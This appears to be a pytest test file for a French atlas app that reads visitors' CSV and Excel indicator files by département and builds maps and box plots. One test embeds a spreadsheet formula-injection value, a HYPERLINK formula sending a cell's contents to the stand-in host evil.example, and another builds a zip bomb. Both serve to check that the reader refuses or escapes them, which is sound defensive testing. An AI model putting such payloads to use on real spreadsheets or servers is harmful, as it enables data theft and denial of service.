"""A visitor's indicator file (app_lib/indicator.py) and its crossing with the atlas (views.py).

Every expected value is written out by hand from the file the test builds; each bad file must give
its French message with the line a person sees in a spreadsheet or a text editor (header = line 1).
"""

from __future__ import annotations

import io
import math
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import plotly.graph_objects as go
import pytest

from app_lib import fr, indicator, ui, views
from app_lib.indicator import UploadError, parse_number, read_table


@pytest.fixture(scope="module")
def deps(reference) -> pd.DataFrame:
    """The 102 départements of the atlas (101 + the Métropole de Lyon), from the reference file."""
    return reference[["code", "name", "region", "population"]]


def plain(text: str) -> str:
    """Messages carry French no-break spaces: compare them with ordinary ones."""
    return text.replace("\u00a0", " ").replace("\u202f", " ")


def read(deps, content: bytes, name: str = "f.csv", key: str | None = None, value: str | None = None):
    table = read_table(name, content)
    guess = indicator.guess_columns(table, deps)
    return table, indicator.read_indicator(table, key or guess.key, value or guess.value, deps)


def values(result) -> dict:
    return {c: (None if math.isnan(v) else v) for c, v in zip(result.values["code"], result.values["value"])}


def errors(result) -> list[str]:
    return [plain(str(p)) for p in result.errors]


def refused(content: bytes, name: str = "f.csv") -> list[str]:
    with pytest.raises(UploadError) as failure:
        read_table(name, content)
    return [plain(str(p)) for p in failure.value.problems]


def workbook(rows: list[list], sheet: str = "Feuille") -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = sheet
    for row in rows:
        ws.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def with_cached_value(content: bytes, formula: str, cached: str) -> bytes:
    """A workbook as a spreadsheet saves it: the formula keeps the value it last computed (openpyxl writes none)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(f"<f>{formula}</f><v />".encode(), f"<f>{formula}</f><v>{cached}</v>".encode())
            target.writestr(item, data)
    return out.getvalue()


# ---------------------------------------------------------------------------------------
# Good files


def test_semicolon_csv_with_decimal_comma(deps):
    table, result = read(deps, "code;nom;valeur\n01;Ain;12,5\n02;Aisne;7\n2A;Corse-du-Sud;0,25\n".encode())
    assert table.description == "CSV, séparateur « point-virgule », encodage UTF-8"
    assert table.columns == ["code", "nom", "valeur"]
    assert table.lines == [2, 3, 4]
    assert result.ok, errors(result)
    assert values(result) == {"01": 12.5, "02": 7.0, "2A": 0.25}
    assert result.values["line"].tolist() == [2, 3, 4]
    assert result.values["name"].tolist() == ["Ain", "Aisne", "Corse-du-Sud"]


def test_comma_csv_with_decimal_point_and_tab_csv(deps):
    _, result = read(deps, b"dep,densite\n75,101.5\n13,88\n")
    assert values(result) == {"75": 101.5, "13": 88.0}
    table, result = read(deps, b"dep\tdensite\n75\t101,5\n")
    assert "tabulation" in table.description
    assert values(result) == {"75": 101.5}


def test_comma_csv_with_quoted_decimal_commas(deps):
    _, result = read(deps, b'dep,valeur\n75,"101,5"\n13,"1 234,5"\n')
    assert values(result) == {"75": 101.5, "13": 1234.5}


def test_latin1_and_bom_files_say_their_encoding(deps):
    content = "département;densité\nHérault;10,5\nCôtes-d'Armor;8\n".encode("cp1252")
    table, result = read(deps, content)
    assert table.description.endswith("encodage Windows-1252 (Latin-1)")
    assert table.columns == ["département", "densité"]
    assert values(result) == {"34": 10.5, "22": 8.0}
    table, result = read(deps, "code;valeur\n01;3\n".encode("utf-8-sig"))
    assert table.description.endswith("encodage UTF-8 (avec BOM)")
    assert table.columns == ["code", "valeur"]  # the BOM is not part of the first header
    table, result = read(deps, "code\tvaleur\n01\t3\n".encode("utf-16"))
    assert table.description.endswith("encodage UTF-16") and values(result) == {"01": 3.0}


@pytest.mark.parametrize("cell, code", [
    ("1", "01"), ("01", "01"), ("001", "01"), ("9", "09"), ("2a", "2A"), ("2B", "2B"), ("971", "971"),
    ("976", "976"), ("69M", "69M"), ("69m", "69M"), ("69D", "69"), ("69", "69"), ("FR-2A", "2A"),
    ("01 - Ain", "01"), ("2A Corse-du-Sud", "2A"), ("2b - haute-corse", "2B"), (1, "01"), (1.0, "01"), (974, "974"),
    ("1.0", "01"), ("75C", "75"),
])
def test_codes_with_or_without_leading_zero(deps, cell, code):
    assert indicator.Keys(deps).resolve(cell) == ("ok", code)


@pytest.mark.parametrize("cell, code", [
    ("Ain", "01"), ("AIN", "01"), ("Hérault", "34"), ("HERAULT", "34"), ("herault", "34"),
    ("Côtes-d'Armor", "22"), ("cotes d armor", "22"), ("COTES D'ARMOR", "22"), ("Seine St Denis", "93"),
    ("Seine-Saint-Denis", "93"), ("Réunion", "974"), ("La Réunion", "974"), ("la reunion", "974"),
    ("Corse du Sud", "2A"), ("HAUTE-CORSE", "2B"), ("Métropole de Lyon", "69M"), ("Rhône", "69"),
    ("Puy de Dôme", "63"), ("  Ariège  ", "09"),
])
def test_names_with_and_without_accents(deps, cell, code):
    assert indicator.Keys(deps).resolve(cell) == ("ok", code)


def test_xlsx_made_with_openpyxl(deps):
    content = workbook([["Densité de généralistes 2023"], ["code", "libellé", "densité"], [1, "Ain", 12.5],
                        ["2A", "Corse-du-Sud", "7,25"], [971, "Guadeloupe", None], [75, "Paris", 101]])
    table, result = read(deps, content, "indicateur.xlsx")
    assert table.description == "classeur Excel, feuille « Feuille »"
    assert table.header_line == 2 and table.lines == [3, 4, 5, 6]
    assert [plain(str(n)) for n in table.notes] == [
        "1 ligne avant l'en-tête (titre ?) laissée de côté ; l'en-tête est la ligne 2."]
    assert result.ok, errors(result)
    assert values(result) == {"01": 12.5, "2A": 7.25, "971": None, "75": 101.0}


def test_xlsx_reads_only_the_first_sheet_and_says_so(deps):
    wb = openpyxl.Workbook()
    wb.active.title = "Données"
    wb.active.append(["code", "valeur"])
    wb.active.append(["01", 3])
    wb.create_sheet("Notes").append(["code", "valeur"])
    buffer = io.BytesIO()
    wb.save(buffer)
    table, result = read(deps, buffer.getvalue(), "f.xlsx")
    assert table.description == "classeur Excel, feuille « Données » (la première ; 1 autre ignorée)"
    assert values(result) == {"01": 3.0}


def test_formula_cell_is_read_as_its_cached_value_never_computed(deps):
    content = with_cached_value(workbook([["code", "valeur"], ["01", "=2*21"], ["02", 5]]), "2*21", "42")
    table, result = read(deps, content, "f.xlsx")
    assert values(result) == {"01": 42.0, "02": 5.0}
    assert [plain(str(n)) for n in table.notes] == [
        "Ligne 2 : cellule B2 : formule ; la valeur que le tableur avait enregistrée (« 42 ») est lue, la formule "
        "n'est pas calculée."]


def test_formula_without_cached_value_is_refused_with_its_cell(deps):
    problems = refused(workbook([["code", "valeur"], ["01", 3], ["02", "=1/0"]]), "f.xlsx")
    assert len(problems) == 1
    assert problems[0].startswith("Ligne 3 : cellule B3 : une formule sans valeur enregistrée")


def test_csv_injection_looking_name_is_never_interpreted(deps):
    cell = '=HYPERLINK("http://evil.example/?x="&A1;"Ain")'
    escaped = cell.replace('"', '""')  # a CSV quotes a cell with quotes by doubling them
    _, result = read(deps, f'nom,valeur\nAin,3\n"{escaped}",4\n'.encode(), key="nom", value="valeur")
    # the cell, cut at 39 characters: =HYPERLINK( + "http://evil.example/?x=" + &A1
    assert errors(result) == ['Ligne 3 : département inconnu « =HYPERLINK("http://evil.example/?x="&A1… ».']
    shown = fr.md(str(result.errors[0]))  # what the page puts in st.error
    assert "\\=HYPERLINK\\(" in shown and "http\\:\u2060//" in shown
    # stored as text in a workbook (not as a formula): read as that text, refused the same way
    wb = openpyxl.Workbook()
    wb.active.append(["nom", "valeur"])
    wb.active.append(["x", 4])
    wb.active["A2"].value, wb.active["A2"].data_type = cell, "s"
    buffer = io.BytesIO()
    wb.save(buffer)
    _, result = read(deps, buffer.getvalue(), "f.xlsx", key="nom", value="valeur")
    assert errors(result) == ['Ligne 2 : département inconnu « =HYPERLINK("http://evil.example/?x="&A1… ».']


def test_empty_values_are_null_never_zero_and_markers_are_named(deps):
    _, result = read(deps, "code;valeur\n01;\n02;nd\n03;0\n04;s\n".encode())
    assert result.ok
    assert values(result) == {"01": None, "02": None, "03": 0.0, "04": None}
    warnings = [plain(str(w)) for w in result.warnings]
    assert "Valeurs lues comme « pas de valeur » (nd, NA, s, -…) : lignes 3, 5." in warnings
    assert ("3 départements sans valeur, affichés « Pas de valeur » : Ain (01, ligne 2), Aisne (02, ligne 3), "
            "Alpes-de-Haute-Provence (04, ligne 5).") in warnings


def test_missing_departements_and_rhone_without_lyon_are_warnings_not_errors(deps):
    rows = "\n".join(f"{c};1" for c in deps["code"] if c not in ("69M", "976"))
    _, result = read(deps, f"code;valeur\n{rows}\n".encode())
    assert result.ok
    warnings = [plain(str(w)) for w in result.warnings]
    assert warnings[0] == ("2 départements sans ligne dans le fichier, affichés « Pas de valeur » : "
                           "Métropole de Lyon (69M), Mayotte (976).")
    assert warnings[1].startswith("Ligne 71 : votre fichier donne le Rhône (69) sans la Métropole de Lyon (69M).")


def test_total_rows_overseas_collectivities_and_notes_are_left_out_with_a_warning(deps):
    content = "dep;valeur\nFrance entière;9\n01;3\n975;2\n02;4\nSource : DREES, 2023;\n".encode()
    _, result = read(deps, content)
    assert result.ok, errors(result)
    assert values(result) == {"01": 3.0, "02": 4.0}
    warnings = [plain(str(w)) for w in result.warnings]
    assert warnings[:3] == [
        "Ligne 2 : ligne de total « France entière » laissée de côté.",
        "Ligne 4 : Saint-Pierre-et-Miquelon (975) n'est ni un département ni dans l'atlas : ligne laissée de côté.",
        "1 ligne sous le tableau, sans valeur ni département reconnu (notes, source ?), laissée de côté : ligne 6.",
    ]


@pytest.mark.parametrize("cell, number", [
    ("12,5", 12.5), ("12.5", 12.5), ("1 234,5", 1234.5), ("1\u00a0234,5", 1234.5), ("1\u202f234", 1234.0),
    ("1.234,5", 1234.5), ("1,234.5", 1234.5), ("1.234.567", 1234567.0), ("-3,2", -3.2), ("\u22123,2", -3.2),
    ("+4", 4.0), ("12,5 %", 12.5), (",5", 0.5), ("0", 0.0), (7, 7.0), (2.25, 2.25),
    ("", None), (None, None), ("NA", None), ("n.d.", None), ("–", None), ("#N/A", None),
])
def test_numbers_with_decimal_comma_point_and_spaces(cell, number):
    assert parse_number(cell) == number


@pytest.mark.parametrize("cell", ["abc", "1e5", "inf", "12,5,3", "1.23.4", "1 234,5,6", "3-4", "#DIV/0!",
                                  True, float("inf"), "12 €"])
def test_non_numbers_are_refused(cell):
    with pytest.raises(ValueError):
        parse_number(cell)


# ---------------------------------------------------------------------------------------
# Bad files: each gives its French message with the line


def test_unknown_code_and_unknown_name_name_their_line(deps):
    _, result = read(deps, "code;valeur\n01;1\n99;2\n".encode())
    assert errors(result) == ["Ligne 3 : code de département inconnu « 99 »."]
    _, result = read(deps, "nom;valeur\nAin;1\nHautes Alpe;2\nBretagne;3\n".encode())
    assert errors(result) == ["Ligne 3 : département inconnu « Hautes Alpe » (vouliez-vous dire Hautes-Alpes ?).",
                              "Ligne 4 : département inconnu « Bretagne »."]


def test_duplicate_names_both_lines(deps):
    _, result = read(deps, "code;valeur\n01;1\n02;2\n1;3\n".encode())
    assert errors(result) == ["Ligne 4 : Ain (01) apparaît deux fois : lignes 2 et 4."]
    _, result = read(deps, "nom;valeur\nHérault;1\nHERAULT;2\n".encode())
    assert errors(result) == ["Ligne 3 : Hérault (34) apparaît deux fois : lignes 2 et 3."]


def test_non_numeric_value_names_its_line(deps):
    _, result = read(deps, "code;valeur\n01;1\n02;2\n03;douze\n".encode(), key="code", value="valeur")
    assert errors(result) == ["Ligne 4 : Allier (03) : la valeur « douze » n'est pas un nombre."]


def test_old_corsica_code_and_name_get_a_clear_message(deps):
    _, result = read(deps, "code;valeur\n20;1\n".encode(), key="code", value="valeur")
    assert errors(result) == ["Ligne 2 : le code 20 (Corse) n'existe plus depuis 1976 : la Corse compte deux "
                              "départements, 2A (Corse-du-Sud) et 2B (Haute-Corse), à donner sur deux lignes."]
    _, result = read(deps, "nom;valeur\nAin;2\nCorse;1\n".encode())
    assert errors(result)[0].startswith("Ligne 3 : le code 20 (Corse) n'existe plus depuis 1976")


def test_code_and_name_that_disagree(deps):
    _, result = read(deps, "dep;valeur\n01 - Aisne;1\n".encode(), key="dep", value="valeur")
    assert errors(result) == ["Ligne 2 : « 01 - Aisne » : le code 01 est celui de Ain, pas de « Aisne »."]


def test_missing_columns_and_same_column_twice(deps):
    table = read_table("f.csv", b"code;valeur\n01;1\n")
    result = indicator.read_indicator(table, "code", "densite", deps)
    assert errors(result) == ["Ligne 1 : colonne « densite » absente du fichier."]
    result = indicator.read_indicator(table, "code", "code", deps)
    assert errors(result) == ["Choisissez deux colonnes différentes pour le département et la valeur."]


def test_no_number_at_all(deps):
    _, result = read(deps, "code;valeur\n01;\n02;\n".encode(), key="code", value="valeur")
    assert errors(result) == ["Aucune valeur numérique dans la colonne « valeur »."]


def test_empty_file_and_header_only():
    assert refused(b"") == ["Le fichier est vide."]
    assert refused(b"\n \n") == ["Le fichier ne contient aucune ligne de texte."]
    assert refused(b"code;valeur\n") == ["Ligne 1 : le fichier n'a que son en-tête : aucune ligne de données."]
    assert refused(b"code\n01\n") == ["Ligne 1 : une seule colonne trouvée : il en faut au moins deux (le département "
                                      "et la valeur), séparées par un point-virgule, une tabulation ou une virgule."]


def test_too_big_and_too_many_rows():
    big = b"code;valeur\n" + b"01;1\n" * 500_000
    assert len(big) > indicator.MAX_BYTES
    assert refused(big) == [f"Le fichier pèse {fr.number(len(big) / 1e6, 1)} Mo : au plus 2 Mo sont acceptés (un "
                            "tableau d'une ligne par département en pèse quelques kilo-octets)."]
    many = b"code;valeur\n" + b"01;1\n" * 1_001
    assert refused(many) == ["Plus de 1 000 lignes de données : ce n'est pas un tableau d'une ligne par "
                             "département (102 au plus)."]
    assert len(read_table("f.csv", b"code;valeur\n" + b"01;1\n" * 1_000).rows) == 1_000  # the limit itself passes


def test_wrong_extensions():
    assert refused(b"code;valeur\n01;1\n", "f.pdf") == ["Extension non prise en charge : déposez un fichier .csv ou .xlsx."]
    assert refused(b"code;valeur\n01;1\n", "sans-extension") == [
        "Extension non prise en charge : déposez un fichier .csv ou .xlsx."]
    assert refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "f.xls")[0].startswith(
        "Ce fichier est un classeur Excel à l'ancien format (.xls)")
    assert refused(workbook([["code", "valeur"]]), "f.csv")[0].startswith(
        "Ce fichier porte l'extension .csv mais contient un classeur Excel")


def test_xlsx_that_is_not_a_workbook():
    message = ("Ce fichier .xlsx n'est pas un classeur Excel lisible (fichier abîmé ou d'un autre type renommé) : "
               "enregistrez-le de nouveau depuis votre tableur, en .xlsx ou en .csv.")
    assert refused(b"code;valeur\n01;1\n", "f.xlsx") == [message]
    damaged = workbook([["code", "valeur"], ["01", 1]])
    assert refused(damaged[: len(damaged) // 2], "f.xlsx") == [message]
    other_zip = io.BytesIO()
    with zipfile.ZipFile(other_zip, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    assert refused(other_zip.getvalue(), "f.xlsx") == [message]


def test_xlsx_zip_bomb_is_refused_before_parsing():
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (indicator.MAX_UNZIPPED + 1))
    assert len(bomb.getvalue()) < indicator.MAX_BYTES
    assert refused(bomb.getvalue(), "f.xlsx") == [
        "Ce classeur, une fois décompressé, dépasse 40 Mo : il contient bien plus qu'un tableau de départements."]


def test_undecodable_bytes_and_mixed_encodings_name_their_line():
    # 0x81 is not a character in UTF-8 nor in Windows-1252
    assert refused(b"code;valeur\n01;1\n02;\x81\n") == [
        "Ligne 3 : l'octet 0x81 ne se lit dans aucun des encodages acceptés (UTF-8, Windows-1252) : ce fichier n'est "
        "pas un texte CSV, ou il est abîmé."]
    mixed = "nom;valeur\nHérault;1\n".encode() + "Ariège;2\n".encode("cp1252")
    assert refused(mixed) == ["Ligne 3 : ce fichier mêle deux encodages (UTF-8 et Windows-1252) : réenregistrez-le en "
                              "« CSV UTF-8 » depuis votre tableur."]
    assert refused(b"code;valeur\n01;1\n\x00\x01;2\n") == [
        "Ligne 3 : caractère de contrôle U+0000 : ce fichier n'est pas un texte CSV lisible."]
    assert refused("nom;valeur\nAin\u202e;1\n".encode()) == [
        "Ligne 2 : caractère de contrôle U+202E : ce fichier n'est pas un texte CSV lisible."]


def test_malformed_csv_rows_name_their_line():
    assert refused(b'code;valeur\n01;1\n02;"2\n03;3\n') == [
        "Ligne 3 : guillemet mal placé ou jamais refermé : ce fichier n'est pas un CSV valide."]
    problems = refused(b"dep,valeur\n01,1\n02,1,5\n03,2\n")
    assert problems == ["Ligne 3 : 3 champs alors que l'en-tête (ligne 1) en a 2. La virgule sert-elle aussi de "
                        "virgule décimale ? Mettez les nombres entre guillemets ou séparez les colonnes par des "
                        "points-virgules."]


# ---------------------------------------------------------------------------------------
# Columns, template


def test_guess_prefers_codes_and_asks_when_several_values_fit(deps):
    table = read_table("f.csv", "code;nom;valeur\n01;Ain;1,5\n02;Aisne;2\n".encode())
    assert indicator.guess_columns(table, deps) == indicator.Guess("code", "valeur", ["code", "nom"], ["valeur"])
    table = read_table("f.csv", "département;densité 2019;densité 2023\nAin;1,5;2\nAisne;2;3\n".encode())
    guess = indicator.guess_columns(table, deps)
    assert (guess.key, guess.value) == ("département", None)
    assert guess.value_candidates == ["densité 2019", "densité 2023"]
    table = read_table("f.csv", "a;b\nAin;1\nAisne;2\n".encode())
    assert indicator.guess_columns(table, deps).key == "a"


def test_template_has_the_102_departements_and_reads_back(deps):
    content = ui.csv_bytes(indicator.template(deps))  # what the page offers
    assert content.startswith(b"\xef\xbb\xbfcode;nom;valeur\r\n" if b"\r\n" in content else b"\xef\xbb\xbfcode;nom;valeur\n")
    lines = content.decode("utf-8-sig").splitlines()
    assert len(lines) == 103
    assert lines[1] == "01;Ain;" and "2A;Corse-du-Sud;" in lines and "69M;Métropole de Lyon;" in lines
    assert lines[-1] == "976;Mayotte;"
    filled = "\n".join(line + ("4,5" if line.startswith("2B") else "") for line in lines).encode("utf-8-sig")
    table, result = read(deps, filled)
    assert (indicator.guess_columns(table, deps).key, result.ok) == ("code", True)
    assert values(result)["2B"] == 4.5 and sum(v is not None for v in values(result).values()) == 1


def test_french_typography():
    assert indicator.french("Ligne 3 : « x » ; oui ? non!") == "Ligne 3\u00a0: «\u00a0x\u00a0»\u202f; oui\u202f? non\u202f!"
    assert indicator.french("http://a.fr") == "http://a.fr"


def test_long_problem_lists_are_cut():
    problems = [indicator.Problem("x", line) for line in range(2, 50)]
    shown = indicator.listed(problems)
    assert len(shown) == 31 and plain(shown[-1]) == "… et 18 autres problèmes du même genre."


# ---------------------------------------------------------------------------------------
# Crossing with the atlas (views)


def test_quantile_classes_by_hand():
    edges, labels = views.quantile_classes(pd.Series([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, None], dtype="float64"))
    # numpy's linear quantiles of 1..10: 1 + 9 × (0, .2, .4, .6, .8, 1)
    assert edges == pytest.approx([1, 2.8, 4.6, 6.4, 8.2, 10])
    assert labels == ["8,2 à 10,0", "6,4 à 8,2", "4,6 à 6,4", "2,8 à 4,6", "1,0 à 2,8"]
    assert views.quantile_class(1, edges, labels) == "1,0 à 2,8"
    assert views.quantile_class(2.8, edges, labels) == "1,0 à 2,8"
    assert views.quantile_class(2.81, edges, labels) == "2,8 à 4,6"
    assert views.quantile_class(10, edges, labels) == "8,2 à 10,0"
    assert views.quantile_class(float("nan"), edges, labels) == "Pas de valeur"


def test_quantile_classes_ties_and_small_values():
    edges, labels = views.quantile_classes(pd.Series([5.0, 5.0, 5.0]))
    assert labels == ["5,00"]
    assert views.quantile_class(5.0, edges, labels) == "5,00"
    edges, labels = views.quantile_classes(pd.Series([0.1, 0.1, 0.1, 0.1, 0.9]))
    # two distinct values, so two classes: quantiles 0, .5, 1 of the five values are 0.1, 0.1, 0.9
    assert (edges, labels) == ([0.1, 0.9], ["0,100 à 0,900"])
    edges, labels = views.quantile_classes(pd.Series([1200.0, 1500.0, 1800.0, 2100.0, 2400.0, 2700.0]))
    assert edges == [1200, 1500, 1800, 2100, 2400, 2700]
    assert labels == ["2\u202f400 à 2\u202f700", "2\u202f100 à 2\u202f400", "1\u202f800 à 2\u202f100",
                      "1\u202f500 à 1\u202f800", "1\u202f200 à 1\u202f500"]
    assert views.quantile_classes(pd.Series([None], dtype="float64")) == ([], [])


def test_class_colours_spread_over_the_scheme():
    five = ["9 à 10", "7 à 9", "5 à 7", "3 à 5", "1 à 3", "Pas de valeur"]
    assert indicator.class_colours(five) == {"1 à 3": "#ffffcc", "3 à 5": "#a1dab4", "5 à 7": "#41b6c4",
                                             "7 à 9": "#2c7fb8", "9 à 10": "#253494", "Pas de valeur": "#d9d9d9"}
    assert indicator.class_colours(["1 à 3", "Pas de valeur"]) == {"1 à 3": "#41b6c4", "Pas de valeur": "#d9d9d9"}


@pytest.fixture()
def small():
    """Six départements: two offer the measure, two answered without it, one did not answer, one has no value."""
    frame = pd.DataFrame({
        "code": ["01", "02", "03", "04", "05", "06"],
        "name": ["Ain", "Aisne", "Allier", "Alpes-de-Haute-Provence", "Hautes-Alpes", "Alpes-Maritimes"],
        "status": ["measures", "measures", "no_measures", "measures", "no_response", "measures"],
        "n_measures": [3, 1, 0, 2, None, 4],
        "value": [10.0, 20.0, 1.0, 5.0, 7.0, np.nan],
    })
    measures = pd.DataFrame({"code": ["01", "02", "04", "06"], "year": 2022, "source": "page",
                             "measure": ["soutien_msp", "soutien_msp", "logement_internes", "soutien_msp"]})
    return frame, measures


def test_groups_keep_non_answering_departements_apart(small):
    frame, measures = small
    groups = views.indicator_groups(frame, measures, "soutien_msp", 2022)
    assert dict(zip(groups["code"], groups["group"])) == {
        "01": views.OFFERS, "02": views.OFFERS, "03": views.NOT_OFFERED, "04": views.NOT_OFFERED,
        "05": views.LEFT_OUT}  # 06 offers it but has no value: not in any group
    summary = views.group_summary(groups).set_index("Groupe")
    # n, minimum, quartiles (linear between ranks), median, maximum
    assert summary.loc[views.OFFERS].tolist() == [2, 10.0, 12.5, 15.0, 17.5, 20.0]  # 10 and 20
    assert summary.loc[views.NOT_OFFERED].tolist() == [2, 1.0, 2.0, 3.0, 4.0, 5.0]  # 1 and 5
    assert summary.loc[views.LEFT_OUT].tolist() == [1, 7.0, 7.0, 7.0, 7.0, 7.0]


def test_box_figure_draws_the_table_s_quartiles_not_plotly_s(small):
    frame, measures = small
    groups = views.indicator_groups(frame, measures, "soutien_msp", 2022)
    summary = views.group_summary(groups)
    figure = indicator.box_figure(groups[groups["group"] != views.LEFT_OUT], summary, "Densité <i>", "%{y}", "T")
    boxes = [t for t in figure.data if t.type == "box"]
    assert [(b.q1, b.median, b.q3, b.lowerfence, b.upperfence) for b in boxes] == [
        ((12.5,), (15.0,), (17.5,), (10.0,), (20.0,)), ((2.0,), (3.0,), (4.0,), (1.0,), (5.0,))]
    points = [t for t in figure.data if t.type == "scatter"]
    assert [sorted(p.y) for p in points] == [[10.0, 20.0], [1.0, 5.0]]
    assert list(figure.layout.xaxis.ticktext) == ["Propose la mesure<br>n = 2", "Ne la propose pas<br>(a répondu)<br>n = 2"]
    assert figure.layout.yaxis.title.text == "Densité &lt;i&gt; (&#37;{y})"  # no HTML, no hover template
    assert "%{y}<extra>" in points[0].hovertemplate and "(&#37;{y}) :" in points[0].hovertemplate


def test_titles_are_escaped_and_cut_into_lines():
    figure = indicator.retitle(go.Figure(), "Densité <b>de médecins</b> généralistes selon « Logement »")
    # at most 34 characters a line: "Densité <b>de médecins</b>" (26) + " généralistes" would make 39;
    # "généralistes selon «\u00a0Logement\u00a0»" is 31, the guillemets held to their word by no-break spaces
    assert figure.layout.title.text == ("Densité &lt;b&gt;de médecins&lt;/b&gt;<br>généralistes selon "
                                        "«\u00a0Logement\u00a0»")
    assert figure.layout.title.automargin and figure.layout.title.yanchor == "bottom"
    assert indicator.retitle(go.Figure(), "Court").layout.title.text == "Court"


def test_status_counts(small):
    frame, _ = small
    counts = views.status_counts(frame, 2022).set_index("Statut 2022")
    assert counts.loc[fr.STATUS_LABELS["measures"]].tolist() == [4, 3, 3]
    assert counts.loc[fr.STATUS_LABELS["no_measures"]].tolist() == [1, 1, 1]
    assert counts.loc[fr.STATUS_LABELS["no_response"]].tolist() == [1, 1, 0]
    assert counts["Départements"].sum() == 6


def test_indicator_frame_and_hover_escape_the_unit(deps, app_data):
    status = pd.read_parquet(app_data / "survey_status.parquet")
    measures = pd.read_parquet(app_data / "measures.parquet")
    catalog = pd.read_parquet(app_data / "measure_catalog.parquet")
    given = pd.DataFrame({"code": ["01", "2A"], "name": ["Ain", "Corse-du-Sud"], "value": [10.0, 30.0],
                          "line": [2, 3]})
    frame, categories = views.indicator_frame(given, deps, status, measures, catalog, 2022)
    assert len(frame) == 102 and frame["value"].notna().sum() == 2
    assert categories == ["20,0 à 30,0", "10,0 à 20,0", views.NO_VALUE]  # two values, two classes
    assert frame.set_index("code").loc[["01", "2A", "02"], "category"].tolist() == [
        "10,0 à 20,0", "20,0 à 30,0", views.NO_VALUE]
    hover = views.indicator_hover(frame, "<b>‰</b>", 2022).set_index("code")
    assert hover.loc["2A", "status_label"] == "Valeur : 30 &lt;b&gt;‰&lt;/b&gt;"
    assert hover.loc["02", "status_label"] == "Pas de valeur dans votre fichier"
    ain = status[(status["code"] == "01") & (status["year"] == 2022)]["status"].item()
    assert hover.loc["01", "hover"].startswith(f"Atlas 2022\u00a0: {fr.STATUS_LABELS[ain]}")


def test_value_text_keeps_the_given_precision():
    assert [views.value_text(v) for v in (1234.25, 12.0, 0.125, -3.5)] == ["1\u202f234,25", "12", "0,125", "-3,5"]
